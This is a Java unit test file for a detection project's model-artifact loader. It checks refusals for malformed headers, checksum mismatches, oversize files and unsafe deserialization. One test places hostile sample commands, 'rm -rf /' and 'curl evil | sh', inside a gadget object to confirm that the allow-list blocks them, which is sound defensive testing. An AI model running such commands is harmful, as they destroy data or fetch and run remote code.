package io.vigil.models.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.vigil.models.detectors.JobDetector;
import io.vigil.models.features.FeatureSet;
import io.vigil.models.hostile.Gadget;
import io.vigil.models.model.ModelArtifact.Header;
import io.vigil.models.model.ModelArtifact.Opened;
import io.vigil.models.model.ModelArtifact.Refusal;
import io.vigil.models.model.ModelArtifact.RefusedException;
import io.vigil.models.scoring.JobHistory;
import java.io.RandomAccessFile;
import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import smile.anomaly.IsolationForest;
import smile.classification.RandomForest;
import smile.data.DataFrame;
import smile.data.formula.Formula;
import smile.data.vector.IntVector;

/**
 * The artifact's format and every refusal, with an arbitrary serializable payload standing in for a
 * model (a {@link JobDetector}: it lives in a model package, as a model's parts do).
 */
class ModelArtifactTest {
    private static final FeatureSet V1 = FeatureSet.CURRENT;
    private static final String KIND = "vigil-ensemble/1";

    private final JobDetector detector = JobDetector.fit(V1, new double[0][]);

    private static SortedMap<String, Object> training() {
        SortedMap<String, Object> training = new TreeMap<>();
        training.put("windows", 12345);
        training.put("datasets", List.of("baseline-small", "rome-2026-02"));
        training.put("positives", new TreeMap<>(Map.of("CRYPTO_MINING", 40, "NETWORK_SCAN", 12)));
        training.put("seed", 7);
        return training;
    }

    private static SortedMap<String, Object> metrics() {
        return new TreeMap<>(Map.of("pr_auc", 0.83, "false_alerts_per_100_job_hours", 1.5));
    }

    private static Header header(FeatureSet featureSet, String kind, byte[] payload) {
        return Header.describing(featureSet, kind, "ensemble-20260301-abc", 0.62, training(), metrics(), payload);
    }

    private static byte[] artifact(Serializable payload) {
        byte[] bytes = ModelArtifact.serialize(payload);
        return ModelArtifact.encode(header(V1, KIND, bytes), bytes);
    }

    private static void refused(ThrowingCallable load, Refusal refusal, String message) {
        assertThatThrownBy(load).isInstanceOf(RefusedException.class)
                .hasMessage(message)
                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(refusal));
    }

    private static void refusedContaining(ThrowingCallable load, Refusal refusal, String message) {
        assertThatThrownBy(load).isInstanceOf(RefusedException.class)
                .hasMessageContaining(message)
                .satisfies(e -> assertThat(((RefusedException) e).refusal()).isEqualTo(refusal));
    }

    // ---- format ----

    @Test
    void opensWhatItWrote() throws Exception {
        Opened opened = ModelArtifact.open(artifact(detector), V1);
        assertThat(opened.payload()).isInstanceOf(JobDetector.class);
        JobDetector loaded = (JobDetector) opened.payload();
        assertThat(loaded.scaleFloors()).containsExactly(detector.scaleFloors());
        assertThat(loaded.settings()).isEqualTo(detector.settings());
        assertThat(opened.header().kind()).isEqualTo(KIND);
        assertThat(opened.header().threshold()).isEqualTo(0.62);
        assertThat(opened.header().training()).containsEntry("windows", 12345).containsKey("positives");
        assertThat(opened.header().metrics()).containsEntry("pr_auc", 0.83);
    }

    @Test
    void writesAMagicLineAndOneLineOfHeaderWithSortedKeys() {
        byte[] bytes = artifact(detector);
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        String[] lines = text.split("\n", 3);
        assertThat(lines[0]).isEqualTo("VIGIL-MODEL 1");
        assertThat(lines[1]).startsWith("{\"feature_set\":\"" + V1.id() + "\",\"feature_set_hash\":\"" + V1.hash()
                        + "\",\"feature_set_version\":\"v2\",\"kind\":\"vigil-ensemble/1\","
                        + "\"metrics\":{\"false_alerts_per_100_job_hours\":1.5,\"pr_auc\":0.83},"
                        + "\"model_version\":\"ensemble-20260301-abc\",\"payload_bytes\":")
                .contains(",\"threshold\":0.62,\"training\":{\"datasets\":[\"baseline-small\",\"rome-2026-02\"],"
                        + "\"positives\":{\"CRYPTO_MINING\":40,\"NETWORK_SCAN\":12},\"seed\":7,\"windows\":12345}}");
    }

    @Test
    void writesTheSameBytesForTheSameModel() {
        assertThat(artifact(detector)).isEqualTo(artifact(detector));
        assertThat(artifact(detector)).isEqualTo(artifact(JobDetector.fit(V1, new double[0][])));
    }

    @Test
    void readsTheHeaderWithoutThePayload() throws Exception {
        byte[] bytes = artifact(detector);
        byte[] damaged = bytes.clone();
        damaged[damaged.length - 1] ^= 1;
        Header header = ModelArtifact.readHeader(damaged);
        assertThat(header.featureSetId()).isEqualTo(V1.id());
        assertThat(header.modelVersion()).isEqualTo("ensemble-20260301-abc");
        assertThat(header.payloadSha256()).hasSize(64);
    }

    // ---- every refusal ----

    @Test
    void refusesWhatIsNotAnArtifact() {
        refused(() -> ModelArtifact.open(new byte[0], V1), Refusal.BAD_FORMAT, "artifact is empty");
        refused(() -> ModelArtifact.open(new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0}, V1), Refusal.BAD_FORMAT,
                "not a Vigil model artifact: it starts with \"PK\\x03\\x04\\x14\\x00\\x00\\x00\", an artifact with \"VIGIL-MODEL 1\\n\"");
        refused(() -> ModelArtifact.open("VIGIL-MODEL one\n{}\n".getBytes(StandardCharsets.US_ASCII), V1),
                Refusal.BAD_FORMAT, "artifact format version 'one' is not a number");
    }

    @Test
    void refusesAnotherFormatVersion() {
        byte[] bytes = artifact(detector);
        bytes["VIGIL-MODEL ".length()] = '2';
        refused(() -> ModelArtifact.open(bytes, V1), Refusal.UNSUPPORTED_FORMAT_VERSION,
                "artifact format version 2, this build reads version 1");
    }

    @Test
    void refusesAHeaderThatIsNotJsonOrLacksAField() {
        refusedContaining(() -> ModelArtifact.open("VIGIL-MODEL 1\n{\"kind\": \n".getBytes(StandardCharsets.US_ASCII), V1),
                Refusal.BAD_FORMAT, "artifact header is not JSON: ");
        refused(() -> ModelArtifact.open("VIGIL-MODEL 1\n[1, 2]\n".getBytes(StandardCharsets.US_ASCII), V1),
                Refusal.BAD_FORMAT, "artifact header is not a JSON object");
        refused(() -> ModelArtifact.open("VIGIL-MODEL 1\n{\"kind\": \"x\"}".getBytes(StandardCharsets.US_ASCII), V1),
                Refusal.BAD_FORMAT, "artifact header is not one line ended by a newline within 1048576 bytes");
        String header = new String(artifact(detector), StandardCharsets.ISO_8859_1).split("\n")[1];
        byte[] noThreshold = ("VIGIL-MODEL 1\n" + header.replace("\"threshold\":0.62", "\"threshold\":\"high\"") + "\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        refused(() -> ModelArtifact.open(noThreshold, V1), Refusal.BAD_FORMAT,
                "artifact header needs 'threshold' as a number in [0, 1]");
        byte[] oddId = ("VIGIL-MODEL 1\n" + header.replace("\"feature_set\":\"" + V1.id(), "\"feature_set\":\"v9-00000000") + "\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        refused(() -> ModelArtifact.open(oddId, V1), Refusal.BAD_FORMAT,
                "artifact header names feature set 'v9-00000000' but version and hash make '" + V1.id() + "'");
    }

    @Test
    void refusesAnUnknownKind() {
        byte[] payload = ModelArtifact.serialize(detector);
        byte[] bytes = ModelArtifact.encode(header(V1, "random-forest/9", payload), payload);
        refused(() -> ModelArtifact.open(bytes, V1), Refusal.UNKNOWN_KIND,
                "model kind 'random-forest/9' is not one this build loads: [vigil-ensemble/1]");
    }

    @Test
    void refusesAModelOfAnotherFeatureSetNamingBoth() {
        FeatureSet v2 = FeatureSet.of("v2", List.of(new FeatureSet.Feature("flows", "log1p(flows)", FeatureSet.Direction.UP, "more is the test's suspicious way")));
        byte[] payload = ModelArtifact.serialize(detector);
        byte[] bytes = ModelArtifact.encode(header(v2, KIND, payload), payload);
        refused(() -> ModelArtifact.open(bytes, V1), Refusal.FEATURE_SET_MISMATCH,
                "model reads feature set " + v2.id() + ", the pipeline computes " + V1.id());
        // Same version, other names: the hash tells them apart.
        FeatureSet otherV1 = FeatureSet.of("v2", List.of(new FeatureSet.Feature("flows", "log1p(flows)", FeatureSet.Direction.UP, "more is the test's suspicious way")));
        byte[] sameVersion = ModelArtifact.encode(header(otherV1, KIND, payload), payload);
        refused(() -> ModelArtifact.open(sameVersion, V1), Refusal.FEATURE_SET_MISMATCH,
                "model reads feature set " + otherV1.id() + ", the pipeline computes " + V1.id());
    }

    @Test
    void refusesADamagedOrTruncatedPayloadBeforeReadingIt() {
        byte[] bytes = artifact(detector);
        byte[] flipped = bytes.clone();
        flipped[flipped.length - 10] ^= 0x40;
        refusedContaining(() -> ModelArtifact.open(flipped, V1), Refusal.CHECKSUM_MISMATCH, "payload SHA-256 is ");
        byte[] truncated = Arrays.copyOf(bytes, bytes.length - 100);
        int payloadBytes = ModelArtifact.serialize(detector).length;
        refused(() -> ModelArtifact.open(truncated, V1), Refusal.CHECKSUM_MISMATCH,
                "payload is " + (payloadBytes - 100) + " bytes, the header says " + payloadBytes);
    }

    @Test
    void refusesAPayloadThatIsNotJavaSerialization() {
        byte[] payload = "not a model".getBytes(StandardCharsets.US_ASCII);
        byte[] bytes = ModelArtifact.encode(header(V1, KIND, payload), payload);
        refusedContaining(() -> ModelArtifact.open(bytes, V1), Refusal.UNREADABLE_PAYLOAD,
                "payload does not deserialize: java.io.StreamCorruptedException");
    }

    @Test
    void refusesAClassOutsideTheAllowListWithoutRunningIt() {
        int reads = Gadget.READS.get();
        refused(() -> ModelArtifact.open(artifact(new Gadget("rm -rf /")), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload refused: class io.vigil.models.hostile.Gadget is not one a model is made of");
        ArrayList<Object> hidden = new ArrayList<>(List.of("harmless", new Gadget("curl evil | sh")));
        refused(() -> ModelArtifact.open(artifact(hidden), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload refused: class io.vigil.models.hostile.Gadget is not one a model is made of");
        assertThat(Gadget.READS.get()).as("Gadget.readObject calls").isEqualTo(reads);
        refused(() -> ModelArtifact.open(artifact(new ConcurrentHashMap<>(Map.of("a", 1))), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload refused: class java.util.concurrent.ConcurrentHashMap is not one a model is made of");
    }

    @Test
    void refusesObjectsNestedDeeperThanAnyModel() {
        ArrayList<Object> nested = new ArrayList<>();
        ArrayList<Object> inner = nested;
        for (int depth = 0; depth < PayloadFilter.MAX_DEPTH + 10; depth++) {
            ArrayList<Object> next = new ArrayList<>();
            inner.add(next);
            inner = next;
        }
        refusedContaining(() -> ModelArtifact.open(artifact(nested), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload refused: objects nest 201 deep, at most 200");
    }

    @Test
    void refusesADetectorThatFitCouldNotHaveMade() throws Exception {
        JobDetector forged = JobDetector.fit(V1, new double[0][]);
        java.lang.reflect.Field floors = JobDetector.class.getDeclaredField("scaleFloors");
        floors.setAccessible(true);
        floors.set(forged, new double[V1.size()]);
        refused(() -> ModelArtifact.open(artifact(forged), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload does not deserialize: java.io.InvalidObjectException: job detector has a scale floor of 0.0");
        floors.set(forged, new double[] {1});
        refused(() -> ModelArtifact.open(artifact(forged), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload does not deserialize: java.io.InvalidObjectException: job detector has 1 scale floors for the " + V1.size() + " features of "
                        + V1.id());
    }

    @Test
    void refusesAPayloadThatIsNotAModel() {
        refused(() -> ModelArtifact.fromBytes(artifact(detector), V1), Refusal.UNREADABLE_PAYLOAD,
                "payload is a io.vigil.models.detectors.JobDetector, not a io.vigil.models.model.VigilModel");
    }

    @Test
    void refusesAModelThatDisagreesWithItsHeader() throws Exception {
        byte[] payload = ModelArtifact.serialize(detector);
        Header header = header(V1, KIND, payload);
        ModelArtifact.checkAgrees(header, V1, KIND, "ensemble-20260301-abc", 0.62);
        refused(() -> ModelArtifact.checkAgrees(header, V1, KIND, "ensemble-20260301-abc", 0.5), Refusal.UNREADABLE_PAYLOAD,
                "payload's model has threshold 0.5, the header says 0.62");
        refused(() -> ModelArtifact.checkAgrees(header, V1, KIND, "other", 0.62), Refusal.UNREADABLE_PAYLOAD,
                "payload's model has version other, the header says ensemble-20260301-abc");
        refused(() -> ModelArtifact.checkAgrees(header, V1, "vigil-ensemble/2", "ensemble-20260301-abc", 0.62),
                Refusal.UNREADABLE_PAYLOAD, "payload's model has kind vigil-ensemble/2, the header says vigil-ensemble/1");
        FeatureSet v2 = FeatureSet.of("v2", List.of(new FeatureSet.Feature("flows", "log1p(flows)", FeatureSet.Direction.UP, "more is the test's suspicious way")));
        refused(() -> ModelArtifact.checkAgrees(header, v2, KIND, "ensemble-20260301-abc", 0.62), Refusal.UNREADABLE_PAYLOAD,
                "payload's model has feature set " + v2.id() + ", the header says " + V1.id());
    }

    @Test
    void refusesArtifactsOverTheSizeLimit(@TempDir Path dir) throws Exception {
        Path big = dir.resolve("big.model");
        try (RandomAccessFile file = new RandomAccessFile(big.toFile(), "rw")) {
            file.setLength(ModelArtifact.MAX_BYTES + 1); // sparse: nothing is written or read
        }
        refused(() -> ModelArtifact.read(big, V1), Refusal.TOO_LARGE,
                "artifact is 67108865 bytes, at most 67108864 are read");
        byte[] bytes = new byte[(int) ModelArtifact.MAX_BYTES + 1];
        refused(() -> ModelArtifact.fromBytes(bytes, V1), Refusal.TOO_LARGE,
                "artifact is 67108865 bytes, at most 67108864 are read");
    }

    @Test
    void namesEachRefusalWithAMetricFriendlyCode() {
        assertThat(Refusal.FEATURE_SET_MISMATCH.code()).isEqualTo("feature_set_mismatch");
        assertThat(Refusal.TOO_LARGE.code()).isEqualTo("too_large");
    }

    // ---- what models are made of passes the filter ----

    @Test
    void admitsSmileForestsAndThePerJobDetector() throws Exception {
        Random random = new Random(3);
        double[][] x = new double[200][4];
        int[] y = new int[x.length];
        for (int i = 0; i < x.length; i++) {
            for (int j = 0; j < 4; j++) {
                x[i][j] = random.nextGaussian();
            }
            y[i] = x[i][0] + x[i][1] > 0 ? 1 : 0;
        }
        IsolationForest isolation = IsolationForest.fit(x);
        RandomForest forest = RandomForest.fit(Formula.lhs("y"),
                DataFrame.of(x, "a", "b", "c", "d").merge(IntVector.of("y", y)));
        JobHistory history = JobHistory.empty();
        for (double[] row : new double[6][V1.size()]) {
            history = detector.learn(history, row, false);
        }
        List<Object> parts = List.of(isolation, forest, detector, history);
        Object opened = ModelArtifact.open(artifact(new ArrayList<>(parts)), V1).payload();
        @SuppressWarnings("unchecked")
        List<Object> back = (List<Object>) opened;
        assertThat(((IsolationForest) back.get(0)).score(x[0])).isEqualTo(isolation.score(x[0]));
        assertThat(((RandomForest) back.get(1)).predict(DataFrame.of(x, "a", "b", "c", "d").get(5)))
                .isEqualTo(forest.predict(DataFrame.of(x, "a", "b", "c", "d").get(5)));
        assertThat(back.get(3)).isEqualTo(history);
    }
}
